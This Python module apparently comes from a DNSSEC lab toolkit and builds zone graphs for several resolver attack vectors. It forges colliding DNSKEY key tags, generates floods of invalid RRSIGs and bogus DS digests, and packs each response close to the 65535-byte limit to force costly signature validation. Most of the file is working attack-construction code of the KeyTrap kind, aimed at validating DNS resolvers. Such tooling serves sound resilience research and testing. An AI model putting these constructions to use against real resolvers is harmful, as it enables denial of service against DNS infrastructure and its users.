"""Zone and delegation-graph construction for the attack vectors.

Each builder produces a :class:`ZoneGraph` whose chain of trust above the
attack payload validates cryptographically; only the final validation
stage carries the trap.  The vectors:

* ``benign``      - parent plus child, everything valid, one A record.
* ``sigjam``      - one valid ZSK, many invalid signatures over the A record.
* ``lockcram``    - many colliding ZSKs, one invalid signature.
* ``keysigtrap``  - colliding ZSKs times invalid signatures.
* ``hashtrap``    - many invalid DS digests against many colliding DNSKEYs.
* ``anytype``     - many small record sets, each with its own valid signature.

Builders verify that every response message the zones imply fits the
65535-byte stream limit, using owner-name compression in the accounting
the way a real nameserver would pack the response.
"""

from __future__ import annotations

import base64
import binascii
from dataclasses import asdict, dataclass, field

from . import ciphers
from .keyforge import (
    SigningKey,
    compute_ds,
    fabricate_invalid_ds,
    fabricate_invalid_rrsig,
    forge_colliding_set,
    generate_keypair,
    invalid_rrsig_template,
    keytag_of,
    seeded_bytes,
    sign_rrset,
)
from .records import (
    DEFAULT_TTL,
    DnskeyRecord,
    DsRecord,
    FLAG_KSK,
    FLAG_ZSK,
    RrsigRecord,
    a_record,
    generic_record,
    rr_from_presentation,
    rr_presentation,
)
from .wire import (
    DnsMessage,
    DnsName,
    ResourceRecord,
    TYPE_A,
    TYPE_ANY,
    TYPE_DNSKEY,
    TYPE_DS,
    TYPE_RRSIG,
    MAX_STREAM_PAYLOAD,
    compressed_message_size,
    pack_max,
)

VECTORS = ("benign", "sigjam", "lockcram", "keysigtrap", "hashtrap", "anytype")

DEFAULT_ZSK_TAG = 5353


class ZoneBuildError(ValueError):
    """The vector parameters cannot produce a well-formed zone graph."""


class FitError(ZoneBuildError):
    """A response message implied by the zone would exceed stream transport.

    `max_fitting` is the largest count that fits with the actual names in
    use; `theoretical_max` is the packing bound for minimal field sizes.
    """

    def __init__(self, message: str, max_fitting: int | None = None,
                 theoretical_max: int | None = None):
        super().__init__(message)
        self.max_fitting = max_fitting
        self.theoretical_max = theoretical_max


@dataclass
class AttackVectorSpec:
    """Parameters selecting and sizing one attack vector."""

    vector: str = "benign"
    algorithm: int | str = 14
    key_count: int = 1          # colliding ZSKs (lockcram, keysigtrap, hashtrap)
    sig_count: int = 1          # invalid signatures (sigjam, keysigtrap)
    ds_count: int = 1           # invalid DS records per sub-zone (hashtrap)
    rrset_count: int = 1        # distinct-type record sets (anytype)
    key_tag_target: int = DEFAULT_ZSK_TAG
    apex: str | None = None
    query_label: str = "www-0"
    sub_count: int = 1          # hashtrap sub-zones
    address: str = "6.6.6.6"
    ttl: int = DEFAULT_TTL
    seed: int = 0
    forge_mode: str = "patch"

    def __post_init__(self):
        if self.vector not in VECTORS:
            raise ZoneBuildError(f"unknown vector {self.vector!r}; choose from {VECTORS}")
        for name in ("key_count", "sig_count", "ds_count", "rrset_count", "sub_count"):
            if getattr(self, name) < 1:
                raise ZoneBuildError(f"{name} must be >= 1")

    def apex_name(self) -> DnsName:
        if self.apex:
            return DnsName.from_text(self.apex)
        return DnsName.from_text("benign.er." if self.vector == "benign" else "attack.er.")

    def cipher(self) -> ciphers.CipherSpec:
        return ciphers.resolve(self.algorithm)

    def to_dict(self) -> dict:
        return asdict(self)

    @classmethod
    def from_dict(cls, data: dict) -> "AttackVectorSpec":
        known = {f for f in cls.__dataclass_fields__}
        unknown = set(data) - known
        if unknown:
            raise ZoneBuildError(f"unknown vector spec fields: {sorted(unknown)}")
        return cls(**data)


@dataclass
class Zone:
    apex: DnsName
    dnskey_rrset: list[DnskeyRecord] = field(default_factory=list)
    rrsets: dict[tuple[DnsName, int], list[ResourceRecord]] = field(default_factory=dict)
    rrsigs: dict[tuple[DnsName, int], list[RrsigRecord]] = field(default_factory=dict)
    ds_for_children: dict[DnsName, list[DsRecord]] = field(default_factory=dict)
    ttl: int = DEFAULT_TTL

    def dnskey_rrs(self) -> list[ResourceRecord]:
        return [k.to_rr(self.ttl) for k in self.dnskey_rrset]

    def dnskey_rrsigs(self) -> list[RrsigRecord]:
        return self.rrsigs.get((self.apex, TYPE_DNSKEY), [])

    def all_records(self) -> list[ResourceRecord]:
        out = self.dnskey_rrs()
        for sigs in self.rrsigs.values():
            out += [s.to_rr(self.ttl) for s in sigs]
        for rrs in self.rrsets.values():
            out += rrs
        for ds_list in self.ds_for_children.values():
            out += [d.to_rr(self.ttl) for d in ds_list]
        return out


@dataclass
class TrustAnchor:
    ds: list[DsRecord] | None = None
    dnskey: DnskeyRecord | None = None

    def __post_init__(self):
        if (self.ds is None) == (self.dnskey is None):
            raise ZoneBuildError("trust anchor must be exactly one of DS or DNSKEY")


@dataclass
class ZoneGraph:
    zones: dict[DnsName, Zone]
    trust_anchor: TrustAnchor
    root_apex: DnsName
    query_name: DnsName
    query_type: int = TYPE_A
    spec: AttackVectorSpec | None = None

    def zone_path(self, qname: DnsName) -> list[Zone]:
        """Zones from the graph root down to the zone containing qname."""
        path = [z for z in self.zones.values() if qname.is_subdomain_of(z.apex)]
        path.sort(key=lambda z: len(z.apex.labels))
        if not path or path[0].apex != self.root_apex:
            return []
        return path


# --- construction helpers ---------------------------------------------------

def _sign_zone_dnskeys(zone: Zone, ksk: SigningKey) -> None:
    zone.rrsigs[(zone.apex, TYPE_DNSKEY)] = [sign_rrset(zone.dnskey_rrs(), ksk)]


def _keyed_zone(apex: DnsName, cipher, seed: int, ttl: int,
                with_zsk: bool = True) -> tuple[Zone, SigningKey, SigningKey | None]:
    ksk = generate_keypair(cipher, apex, FLAG_KSK, seed=f"ksk|{apex}|{seed}")
    zone = Zone(apex=apex, ttl=ttl, dnskey_rrset=[ksk.dnskey])
    zsk = None
    if with_zsk:
        zsk = generate_keypair(cipher, apex, FLAG_ZSK, seed=f"zsk|{apex}|{seed}")
        zone.dnskey_rrset.append(zsk.dnskey)
    _sign_zone_dnskeys(zone, ksk)
    return zone, ksk, zsk


def _delegate(parent: Zone, child_apex: DnsName, child_ksk_key: DnskeyRecord,
              parent_zsk: SigningKey) -> None:
    ds = compute_ds(child_ksk_key)
    parent.ds_for_children[child_apex] = [ds]
    parent.rrsigs[(child_apex, TYPE_DS)] = [
        sign_rrset([ds.to_rr(parent.ttl)], parent_zsk)
    ]


def _anchored_graph(spec: AttackVectorSpec, root: Zone, root_ksk: SigningKey,
                    zones: list[Zone], query_name: DnsName,
                    query_type: int = TYPE_A) -> ZoneGraph:
    graph = ZoneGraph(
        zones={z.apex: z for z in zones},
        trust_anchor=TrustAnchor(ds=[compute_ds(root_ksk.dnskey)]),
        root_apex=root.apex,
        query_name=query_name,
        query_type=query_type,
        spec=spec,
    )
    problems = lint_graph(graph)
    if problems:
        raise ZoneBuildError("generated graph failed lint: " + "; ".join(problems))
    return graph


def _check_theoretical(count: int, cipher, kind: str, what: str) -> None:
    bound = pack_max(cipher, kind)
    if count > bound:
        raise FitError(
            f"{count} {what} can never fit one response: the packing bound "
            f"for {ciphers.resolve(cipher).name} is {bound}",
            theoretical_max=bound,
        )


def _check_message_fit(msg: DnsMessage, what: str, count: int,
                       per_record: int, cipher, kind: str) -> None:
    size = compressed_message_size(msg)
    if size > MAX_STREAM_PAYLOAD:
        base = size - count * per_record
        max_fitting = (MAX_STREAM_PAYLOAD - base) // per_record
        raise FitError(
            f"{what} response is {size} bytes (> {MAX_STREAM_PAYLOAD}); at most "
            f"{max_fitting} fit with these names (theoretical maximum "
            f"{pack_max(cipher, kind)})",
            max_fitting=max_fitting,
            theoretical_max=pack_max(cipher, kind),
        )


def response_messages(graph: ZoneGraph) -> dict[str, DnsMessage]:
    """Every response message the graph implies, keyed by a label."""
    out: dict[str, DnsMessage] = {}
    for apex, zone in graph.zones.items():
        msg = DnsMessage(question=(apex, TYPE_DNSKEY, 1))
        msg.answer += zone.dnskey_rrs()
        msg.answer += [s.to_rr(zone.ttl) for s in zone.dnskey_rrsigs()]
        out[f"dnskey:{apex}"] = msg
        for child, ds_list in zone.ds_for_children.items():
            msg = DnsMessage(question=(child, TYPE_DS, 1))
            msg.answer += [d.to_rr(zone.ttl) for d in ds_list]
            msg.answer += [s.to_rr(zone.ttl) for s in zone.rrsigs.get((child, TYPE_DS), [])]
            out[f"ds:{child}"] = msg
        answer_names = {name for name, _ in zone.rrsets}
        for name in sorted(answer_names):
            msg = DnsMessage(question=(name, TYPE_ANY, 1))
            for (rname, rtype), rrs in sorted(zone.rrsets.items(),
                                              key=lambda kv: (kv[0][0], kv[0][1])):
                if rname != name:
                    continue
                msg.answer += rrs
                msg.answer += [s.to_rr(zone.ttl) for s in zone.rrsigs.get((rname, rtype), [])]
            out[f"answer:{name}"] = msg
    return out


def fit_report(graph: ZoneGraph) -> list[dict]:
    """Compressed and uncompressed size of every implied response message."""
    report = []
    for label, msg in sorted(response_messages(graph).items()):
        from .wire import message_size
        report.append({
            "message": label,
            "compressed_size": compressed_message_size(msg),
            "uncompressed_size": message_size(msg),
            "limit": MAX_STREAM_PAYLOAD,
        })
    return report


# --- vector builders ---------------------------------------------------------

def build_benign_zone(spec: AttackVectorSpec) -> ZoneGraph:
    """Parent and child, one KSK and ZSK each, one validly signed A record."""
    apex = spec.apex_name()
    child, child_ksk, child_zsk = _keyed_zone(apex, spec.cipher(), spec.seed, spec.ttl)
    parent, parent_ksk, parent_zsk = _keyed_zone(apex.parent(), spec.cipher(),
                                                 spec.seed, spec.ttl)
    _delegate(parent, apex, child_ksk.dnskey, parent_zsk)

    qname = apex.prepend(spec.query_label)
    rrset = [a_record(qname, spec.address, spec.ttl)]
    child.rrsets[(qname, TYPE_A)] = rrset
    child.rrsigs[(qname, TYPE_A)] = [sign_rrset(rrset, child_zsk)]
    return _anchored_graph(spec, parent, parent_ksk, [parent, child], qname)


def _attack_child_with_forged_keys(spec: AttackVectorSpec,
                                   apex: DnsName) -> tuple[Zone, SigningKey]:
    """Child zone: genuine KSK first, then the colliding forged ZSKs."""
    cipher = spec.cipher()
    _check_theoretical(spec.key_count + 1, cipher, "dnskey",
                       "DNSKEYs (colliding set plus KSK)")
    ksk = generate_keypair(cipher, apex, FLAG_KSK, seed=f"ksk|{apex}|{spec.seed}")
    forged = forge_colliding_set(cipher, spec.key_tag_target, spec.key_count,
                                 apex, FLAG_ZSK, spec.seed, spec.forge_mode)
    zone = Zone(apex=apex, ttl=spec.ttl, dnskey_rrset=[ksk.dnskey] + forged)
    _sign_zone_dnskeys(zone, ksk)
    return zone, ksk


def _fit_check_dnskeys(zone: Zone, spec: AttackVectorSpec) -> None:
    msg = DnsMessage(question=(zone.apex, TYPE_DNSKEY, 1))
    msg.answer += zone.dnskey_rrs()
    msg.answer += [s.to_rr(zone.ttl) for s in zone.dnskey_rrsigs()]
    per_record = 2 + 10 + 4 + spec.cipher().key_field_len  # compressed owner
    _check_message_fit(msg, "DNSKEY", len(zone.dnskey_rrset), per_record,
                       spec.cipher(), "dnskey")


def _fit_check_answer(zone: Zone, qname: DnsName, spec: AttackVectorSpec,
                      sig_count: int) -> None:
    msg = DnsMessage(question=(qname, TYPE_ANY, 1))
    for (rname, rtype), rrs in sorted(zone.rrsets.items(),
                                      key=lambda kv: (kv[0][0], kv[0][1])):
        if rname != qname:
            continue
        msg.answer += rrs
        msg.answer += [s.to_rr(zone.ttl) for s in zone.rrsigs.get((rname, rtype), [])]
    sig_rdata = 18 + zone.apex.wire_len() + spec.cipher().sig_field_len
    per_record = 2 + 10 + sig_rdata
    _check_message_fit(msg, "answer", sig_count, per_record, spec.cipher(), "rrsig")


def build_sigjam_zone(spec: AttackVectorSpec) -> ZoneGraph:
    """One valid key chain; the A record drowns in invalid signatures."""
    cipher = spec.cipher()
    _check_theoretical(spec.sig_count, cipher, "rrsig", "RRSIGs")
    apex = spec.apex_name()
    child, child_ksk, child_zsk = _keyed_zone(apex, cipher, spec.seed, spec.ttl)
    parent, parent_ksk, parent_zsk = _keyed_zone(apex.parent(), cipher,
                                                 spec.seed, spec.ttl)
    _delegate(parent, apex, child_ksk.dnskey, parent_zsk)

    qname = apex.prepend(spec.query_label)
    rrset = [a_record(qname, spec.address, spec.ttl)]
    child.rrsets[(qname, TYPE_A)] = rrset
    template = invalid_rrsig_template(qname, TYPE_A, cipher,
                                      child_zsk.key_tag(), apex,
                                      original_ttl=spec.ttl)
    child.rrsigs[(qname, TYPE_A)] = [
        fabricate_invalid_rrsig(template, i, spec.seed) for i in range(spec.sig_count)
    ]
    _fit_check_answer(child, qname, spec, spec.sig_count)
    return _anchored_graph(spec, parent, parent_ksk, [parent, child], qname)


def build_lockcram_zone(spec: AttackVectorSpec) -> ZoneGraph:
    """Colliding ZSKs; one invalid signature forces trying them all."""
    apex = spec.apex_name()
    child, child_ksk = _attack_child_with_forged_keys(spec, apex)
    parent, parent_ksk, parent_zsk = _keyed_zone(apex.parent(), spec.cipher(),
                                                 spec.seed, spec.ttl)
    _delegate(parent, apex, child_ksk.dnskey, parent_zsk)

    qname = apex.prepend(spec.query_label)
    rrset = [a_record(qname, spec.address, spec.ttl)]
    child.rrsets[(qname, TYPE_A)] = rrset
    template = invalid_rrsig_template(qname, TYPE_A, spec.cipher(),
                                      spec.key_tag_target, apex,
                                      original_ttl=spec.ttl)
    child.rrsigs[(qname, TYPE_A)] = [fabricate_invalid_rrsig(template, 0, spec.seed)]
    _fit_check_dnskeys(child, spec)
    return _anchored_graph(spec, parent, parent_ksk, [parent, child], qname)


def build_keysigtrap_zone(spec: AttackVectorSpec) -> ZoneGraph:
    """Colliding ZSKs times invalid signatures: the quadratic construction."""
    cipher = spec.cipher()
    _check_theoretical(spec.sig_count, cipher, "rrsig", "RRSIGs")
    apex = spec.apex_name()
    child, child_ksk = _attack_child_with_forged_keys(spec, apex)
    parent, parent_ksk, parent_zsk = _keyed_zone(apex.parent(), cipher,
                                                 spec.seed, spec.ttl)
    _delegate(parent, apex, child_ksk.dnskey, parent_zsk)

    qname = apex.prepend(spec.query_label)
    rrset = [a_record(qname, spec.address, spec.ttl)]
    child.rrsets[(qname, TYPE_A)] = rrset
    template = invalid_rrsig_template(qname, TYPE_A, cipher,
                                      spec.key_tag_target, apex,
                                      original_ttl=spec.ttl)
    child.rrsigs[(qname, TYPE_A)] = [
        fabricate_invalid_rrsig(template, i, spec.seed) for i in range(spec.sig_count)
    ]
    _fit_check_dnskeys(child, spec)
    _fit_check_answer(child, qname, spec, spec.sig_count)
    return _anchored_graph(spec, parent, parent_ksk, [parent, child], qname)


def build_hashtrap_zone(spec: AttackVectorSpec) -> ZoneGraph:
    """Invalid DS digests against colliding DNSKEYs in delegated sub-zones."""
    cipher = spec.cipher()
    _check_theoretical(spec.ds_count, cipher, "dnskey", "DS records")
    _check_theoretical(spec.key_count, cipher, "dnskey", "DNSKEYs")
    apex = spec.apex_name()
    root, root_ksk, root_zsk = _keyed_zone(apex, cipher, spec.seed, spec.ttl)

    zones = [root]
    first_sub = None
    for i in range(spec.sub_count):
        sub_apex = apex.prepend(f"sub-{i}")
        first_sub = first_sub or sub_apex
        forged = forge_colliding_set(cipher, spec.key_tag_target, spec.key_count,
                                     sub_apex, FLAG_ZSK, spec.seed + i, spec.forge_mode)
        sub = Zone(apex=sub_apex, ttl=spec.ttl, dnskey_rrset=list(forged))
        dnskey_template = invalid_rrsig_template(sub_apex, TYPE_DNSKEY, cipher,
                                                 spec.key_tag_target, sub_apex,
                                                 original_ttl=spec.ttl)
        sub.rrsigs[(sub_apex, TYPE_DNSKEY)] = [
            fabricate_invalid_rrsig(dnskey_template, 0, spec.seed + i)
        ]
        qname = sub_apex.prepend(spec.query_label)
        rrset = [a_record(qname, spec.address, spec.ttl)]
        sub.rrsets[(qname, TYPE_A)] = rrset
        a_template = invalid_rrsig_template(qname, TYPE_A, cipher,
                                            spec.key_tag_target, sub_apex,
                                            original_ttl=spec.ttl)
        sub.rrsigs[(qname, TYPE_A)] = [fabricate_invalid_rrsig(a_template, 0, spec.seed + i)]

        ds_list = [
            fabricate_invalid_ds(sub_apex, spec.key_tag_target, cipher, v, spec.seed + i)
            for v in range(spec.ds_count)
        ]
        root.ds_for_children[sub_apex] = ds_list
        root.rrsigs[(sub_apex, TYPE_DS)] = [
            sign_rrset([d.to_rr(spec.ttl) for d in ds_list], root_zsk)
        ]

        _fit_check_dnskeys(sub, spec)
        ds_msg = DnsMessage(question=(sub_apex, TYPE_DS, 1))
        ds_msg.answer += [d.to_rr(spec.ttl) for d in ds_list]
        ds_msg.answer += [s.to_rr(spec.ttl) for s in root.rrsigs[(sub_apex, TYPE_DS)]]
        _check_message_fit(ds_msg, "DS", spec.ds_count, 2 + 10 + 4 + 32,
                           cipher, "dnskey")
        zones.append(sub)

    qname = first_sub.prepend(spec.query_label)
    return _anchored_graph(spec, root, root_ksk, zones, qname)


def unallocated_type_codes(count: int) -> list[int]:
    """Distinct unallocated record type codes, private-use range first."""
    assigned = {32768, 32769}  # trust-anchor and DLV codes below the private range
    codes = list(range(65280, min(65280 + count, 65535)))
    code = 65279
    while len(codes) < count and code > 32769:
        if code not in assigned:
            codes.append(code)
        code -= 1
    if len(codes) < count:
        raise ZoneBuildError(f"cannot allocate {count} unassigned type codes")
    return codes


def build_anytype_zone(spec: AttackVectorSpec) -> ZoneGraph:
    """Many small record sets of unallocated types, each validly signed."""
    cipher = spec.cipher()
    _check_theoretical(spec.rrset_count, cipher, "rrsig", "record sets")
    apex = spec.apex_name()
    child, child_ksk, child_zsk = _keyed_zone(apex, cipher, spec.seed, spec.ttl)
    parent, parent_ksk, parent_zsk = _keyed_zone(apex.parent(), cipher,
                                                 spec.seed, spec.ttl)
    _delegate(parent, apex, child_ksk.dnskey, parent_zsk)

    qname = apex.prepend(spec.query_label)
    for i, code in enumerate(unallocated_type_codes(spec.rrset_count)):
        rdata = seeded_bytes(4, "anytype", qname.to_text(), code, spec.seed)
        rrset = [generic_record(qname, code, rdata, spec.ttl)]
        child.rrsets[(qname, code)] = rrset
        child.rrsigs[(qname, code)] = [sign_rrset(rrset, child_zsk)]
    _fit_check_answer(child, qname, spec, spec.rrset_count)
    graph = _anchored_graph(spec, parent, parent_ksk, [parent, child], qname,
                            query_type=TYPE_ANY)
    return graph


_BUILDERS = {
    "benign": build_benign_zone,
    "sigjam": build_sigjam_zone,
    "lockcram": build_lockcram_zone,
    "keysigtrap": build_keysigtrap_zone,
    "hashtrap": build_hashtrap_zone,
    "anytype": build_anytype_zone,
}


def build_zone_graph(spec: AttackVectorSpec) -> ZoneGraph:
    return _BUILDERS[spec.vector](spec)


# --- lint --------------------------------------------------------------------

def lint_graph(graph: ZoneGraph) -> list[str]:
    """Structural checks; an empty list means the graph is well-formed."""
    problems = []
    for apex, zone in graph.zones.items():
        if zone.apex != apex:
            problems.append(f"zone keyed {apex} has apex {zone.apex}")
        for key in zone.dnskey_rrset:
            if key.owner.canonical() != apex.canonical():
                problems.append(f"{apex}: DNSKEY owner {key.owner} is not the apex")
        if zone.dnskey_rrset and not zone.dnskey_rrsigs():
            problems.append(f"{apex}: DNSKEY rrset is unsigned")
        for (name, rtype) in zone.rrsets:
            if not zone.rrsigs.get((name, rtype)):
                problems.append(f"{apex}: rrset {name}/{rtype} is unsigned")
        for child, ds_list in zone.ds_for_children.items():
            if not zone.rrsigs.get((child, TYPE_DS)):
                problems.append(f"{apex}: DS set for {child} is unsigned")
            child_zone = graph.zones.get(child)
            if child_zone is None:
                problems.append(f"{apex}: DS set for unknown child {child}")
                continue
            child_tags = {(k.algorithm, keytag_of(k)) for k in child_zone.dnskey_rrset}
            for ds in ds_list:
                if (ds.algorithm, ds.key_tag) not in child_tags:
                    problems.append(
                        f"{apex}: DS triple for {child} matches no child DNSKEY"
                    )
                    break
        for (name, _rtype), sigs in zone.rrsigs.items():
            for sig in sigs:
                signer_zone = graph.zones.get(sig.signer_name)
                if signer_zone is None:
                    problems.append(f"{apex}: RRSIG for {name} names unknown signer "
                                    f"{sig.signer_name}")
                    continue
                triples = {(k.algorithm, keytag_of(k)) for k in signer_zone.dnskey_rrset}
                if (sig.algorithm, sig.key_tag) not in triples:
                    problems.append(f"{apex}: RRSIG triple for {name} matches no key of "
                                    f"{sig.signer_name}")
    for apex in graph.zones:
        if apex == graph.root_apex:
            continue
        parent = graph.zones.get(apex.parent())
        if parent is None or apex not in parent.ds_for_children:
            problems.append(f"{apex}: no DS records in its parent zone")
    anchor = graph.trust_anchor
    root_zone = graph.zones.get(graph.root_apex)
    if root_zone is None:
        problems.append(f"graph root {graph.root_apex} has no zone")
    elif anchor.ds is not None:
        root_tags = {(k.algorithm, keytag_of(k)) for k in root_zone.dnskey_rrset}
        if not any((d.algorithm, d.key_tag) in root_tags for d in anchor.ds):
            problems.append("trust anchor DS matches no root-zone key")
    for label, msg in response_messages(graph).items():
        size = compressed_message_size(msg)
        if size > MAX_STREAM_PAYLOAD:
            problems.append(f"{label} response is {size} bytes (> {MAX_STREAM_PAYLOAD})")
    return problems


# --- zonefile presentation ----------------------------------------------------

def emit_zonefile(zone: Zone) -> str:
    """Presentation-format text, one record per line, deterministic order."""
    lines = [f"; zone {zone.apex.to_text()}"]
    for key in zone.dnskey_rrset:
        lines.append(key.presentation(zone.ttl))
    for sig in zone.dnskey_rrsigs():
        lines.append(sig.presentation(zone.ttl))
    for child in sorted(zone.ds_for_children):
        for ds in zone.ds_for_children[child]:
            lines.append(ds.presentation(zone.ttl))
        for sig in zone.rrsigs.get((child, TYPE_DS), []):
            lines.append(sig.presentation(zone.ttl))
    for (name, rtype) in sorted(zone.rrsets, key=lambda k: (k[0], k[1])):
        for rr in zone.rrsets[(name, rtype)]:
            lines.append(rr_presentation(rr))
        for sig in zone.rrsigs.get((name, rtype), []):
            lines.append(sig.presentation(zone.ttl))
    return "\n".join(lines) + "\n"


def load_zonefile(text: str) -> Zone:
    """Parse presentation text back into a zone; crypto flags are unknown."""
    from .records import DnskeyRecord as DK, DsRecord as DS, RrsigRecord as RS

    records: list[ResourceRecord] = []
    for line in text.splitlines():
        line = line.strip()
        if not line or line.startswith(";"):
            continue
        records.append(rr_from_presentation(line))

    keys = [DK.from_rdata(r.owner, r.rdata) for r in records if r.rtype == TYPE_DNSKEY]
    if not keys:
        raise ZoneBuildError("zonefile has no DNSKEY records; cannot locate the apex")
    apexes = {k.owner.canonical() for k in keys}
    if len(apexes) > 1:
        raise ZoneBuildError("zonefile mixes DNSKEYs of multiple apexes")
    apex = keys[0].owner
    ttl = records[0].ttl
    zone = Zone(apex=apex, ttl=ttl, dnskey_rrset=keys)
    for r in records:
        if r.rtype == TYPE_DNSKEY:
            continue
        if r.rtype == TYPE_RRSIG:
            sig = RS.from_rdata(r.owner, r.rdata)
            zone.rrsigs.setdefault((sig.owner, sig.type_covered), []).append(sig)
        elif r.rtype == TYPE_DS:
            ds = DS.from_rdata(r.owner, r.rdata)
            zone.ds_for_children.setdefault(ds.owner, []).append(ds)
        else:
            zone.rrsets.setdefault((r.owner, r.rtype), []).append(r)
    return zone


def zones_equal(a: Zone, b: Zone) -> bool:
    """Record-content equality, ignoring construction order and crypto flags."""
    def canon(zone: Zone):
        return sorted((rr.owner.canonical().wire(), rr.rtype, rr.ttl, rr.rdata)
                      for rr in zone.all_records())
    return a.apex.canonical() == b.apex.canonical() and canon(a) == canon(b)


# --- graph JSON ---------------------------------------------------------------

_GRAPH_FORMAT = "dnsseclab-graph/1"


def _dnskey_to_dict(k: DnskeyRecord) -> dict:
    return {"owner": k.owner.to_text(), "flags": k.flags, "protocol": k.protocol,
            "algorithm": k.algorithm,
            "public_key": base64.b64encode(k.public_key).decode()}


def _dnskey_from_dict(d: dict) -> DnskeyRecord:
    return DnskeyRecord(DnsName.from_text(d["owner"]), d["flags"], d["algorithm"],
                        base64.b64decode(d["public_key"]), d["protocol"])


def _rrsig_to_dict(s: RrsigRecord) -> dict:
    return {"owner": s.owner.to_text(), "type_covered": s.type_covered,
            "algorithm": s.algorithm, "labels": s.labels,
            "original_ttl": s.original_ttl, "expiration": s.expiration,
            "inception": s.inception, "key_tag": s.key_tag,
            "signer_name": s.signer_name.to_text(),
            "signature": base64.b64encode(s.signature).decode(),
            "valid": s.valid,
            "signed_by": base64.b64encode(s.signed_by).decode() if s.signed_by else None}


def _rrsig_from_dict(d: dict) -> RrsigRecord:
    return RrsigRecord(
        DnsName.from_text(d["owner"]), d["type_covered"], d["algorithm"],
        d["labels"], d["original_ttl"], d["expiration"], d["inception"],
        d["key_tag"], DnsName.from_text(d["signer_name"]),
        base64.b64decode(d["signature"]), d.get("valid"),
        base64.b64decode(d["signed_by"]) if d.get("signed_by") else None)


def _ds_to_dict(ds: DsRecord) -> dict:
    return {"owner": ds.owner.to_text(), "key_tag": ds.key_tag,
            "algorithm": ds.algorithm, "digest_type": ds.digest_type,
            "digest": ds.digest.hex()}


def _ds_from_dict(d: dict) -> DsRecord:
    return DsRecord(DnsName.from_text(d["owner"]), d["key_tag"], d["algorithm"],
                    d["digest_type"], binascii.unhexlify(d["digest"]))


def _rr_to_dict(rr: ResourceRecord) -> dict:
    return {"owner": rr.owner.to_text(), "type": rr.rtype, "ttl": rr.ttl,
            "rdata": rr.rdata.hex()}


def _rr_from_dict(d: dict) -> ResourceRecord:
    return ResourceRecord(DnsName.from_text(d["owner"]), d["type"], d["ttl"],
                          binascii.unhexlify(d["rdata"]))


def graph_to_dict(graph: ZoneGraph) -> dict:
    zones = []
    for apex in sorted(graph.zones):
        zone = graph.zones[apex]
        zones.append({
            "apex": apex.to_text(),
            "ttl": zone.ttl,
            "dnskey_rrset": [_dnskey_to_dict(k) for k in zone.dnskey_rrset],
            "rrsigs": [
                {"name": name.to_text(), "type": rtype,
                 "signatures": [_rrsig_to_dict(s) for s in sigs]}
                for (name, rtype), sigs in sorted(zone.rrsigs.items(),
                                                  key=lambda kv: (kv[0][0], kv[0][1]))
            ],
            "rrsets": [
                {"name": name.to_text(), "type": rtype,
                 "records": [_rr_to_dict(r) for r in rrs]}
                for (name, rtype), rrs in sorted(zone.rrsets.items(),
                                                 key=lambda kv: (kv[0][0], kv[0][1]))
            ],
            "ds_for_children": [
                {"child": child.to_text(), "records": [_ds_to_dict(d) for d in ds_list]}
                for child, ds_list in sorted(zone.ds_for_children.items())
            ],
        })
    anchor = graph.trust_anchor
    return {
        "format": _GRAPH_FORMAT,
        "spec": graph.spec.to_dict() if graph.spec else None,
        "root_apex": graph.root_apex.to_text(),
        "query_name": graph.query_name.to_text(),
        "query_type": graph.query_type,
        "trust_anchor": ({"ds": [_ds_to_dict(d) for d in anchor.ds]}
                         if anchor.ds is not None
                         else {"dnskey": _dnskey_to_dict(anchor.dnskey)}),
        "zones": zones,
    }


def graph_from_dict(data: dict) -> ZoneGraph:
    if data.get("format") != _GRAPH_FORMAT:
        raise ZoneBuildError(f"unsupported graph format {data.get('format')!r}")
    zones: dict[DnsName, Zone] = {}
    for zdata in data["zones"]:
        apex = DnsName.from_text(zdata["apex"])
        zone = Zone(apex=apex, ttl=zdata["ttl"],
                    dnskey_rrset=[_dnskey_from_dict(k) for k in zdata["dnskey_rrset"]])
        for entry in zdata["rrsigs"]:
            key = (DnsName.from_text(entry["name"]), entry["type"])
            zone.rrsigs[key] = [_rrsig_from_dict(s) for s in entry["signatures"]]
        for entry in zdata["rrsets"]:
            key = (DnsName.from_text(entry["name"]), entry["type"])
            zone.rrsets[key] = [_rr_from_dict(r) for r in entry["records"]]
        for entry in zdata["ds_for_children"]:
            child = DnsName.from_text(entry["child"])
            zone.ds_for_children[child] = [_ds_from_dict(d) for d in entry["records"]]
        zones[apex] = zone
    anchor_data = data["trust_anchor"]
    anchor = (TrustAnchor(ds=[_ds_from_dict(d) for d in anchor_data["ds"]])
              if "ds" in anchor_data
              else TrustAnchor(dnskey=_dnskey_from_dict(anchor_data["dnskey"])))
    spec = AttackVectorSpec.from_dict(data["spec"]) if data.get("spec") else None
    return ZoneGraph(
        zones=zones,
        trust_anchor=anchor,
        root_apex=DnsName.from_text(data["root_apex"]),
        query_name=DnsName.from_text(data["query_name"]),
        query_type=data["query_type"],
        spec=spec,
    )
